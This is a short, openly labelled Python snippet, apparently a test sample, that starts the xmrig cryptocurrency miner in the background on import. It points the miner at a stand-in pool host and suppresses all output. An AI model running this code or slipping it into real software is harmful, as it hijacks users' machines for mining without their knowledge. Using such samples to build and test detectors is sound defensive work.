# A miner is started in the background; runs: import
import subprocess
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.test:3333", "-u", "x"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
